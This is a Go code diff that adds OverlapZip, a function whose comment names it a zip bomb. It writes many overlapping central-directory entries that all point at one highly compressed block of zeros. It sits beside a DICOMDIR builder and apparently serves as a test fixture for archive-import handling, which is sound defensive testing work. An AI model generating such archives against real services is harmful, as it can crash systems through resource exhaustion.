@@ -4,6 +4,8 @@ import (
 	"bytes"
 	"compress/flate"
 	"encoding/binary"
+	"fmt"
+	"hash/crc32"
 	"io"
 	"strconv"
 )
@@ -182,5 +184,41 @@ func BuildDICOMDIR(ids [][]string) []byte {
 		seq.Write(item.Bytes())
 	}
 	d.el(4, 0x1220, "SQ", seq.Bytes())
+	return b.Bytes()
+}
+
+// OverlapZip returns a zip bomb whose n central directory records all point at
+// one deflated kernel of size bytes of zeros.
+func OverlapZip(n int, size int) []byte {
+	var kb bytes.Buffer
+	fw, _ := flate.NewWriter(&kb, flate.BestCompression)
+	fw.Write(make([]byte, size))
+	fw.Close()
+	kernel := kb.Bytes()
+	crc := crc32.ChecksumIEEE(make([]byte, size))
+	var b bytes.Buffer
+	le := func(v any) { binary.Write(&b, binary.LittleEndian, v) }
+	name := "K"
+	le(uint32(0x04034b50))
+	le([5]uint16{20, 0, 8, 0, 0})
+	le([3]uint32{crc, uint32(len(kernel)), uint32(size)})
+	le([2]uint16{uint16(len(name)), 0})
+	b.WriteString(name)
+	b.Write(kernel)
+	cd := b.Len()
+	for i := range n {
+		nm := fmt.Sprintf("IMG%04d", i)
+		le(uint32(0x02014b50))
+		le([6]uint16{20, 20, 0, 8, 0, 0})
+		le([3]uint32{crc, uint32(len(kernel)), uint32(size)})
+		le([5]uint16{uint16(len(nm)), 0, 0, 0, 0})
+		le([2]uint32{0, 0})
+		b.WriteString(nm)
+	}
+	end := b.Len()
+	le(uint32(0x06054b50))
+	le([4]uint16{0, 0, uint16(n), uint16(n)})
+	le([2]uint32{uint32(end - cd), uint32(cd)})
+	le(uint16(0))
 	return b.Bytes()
 }
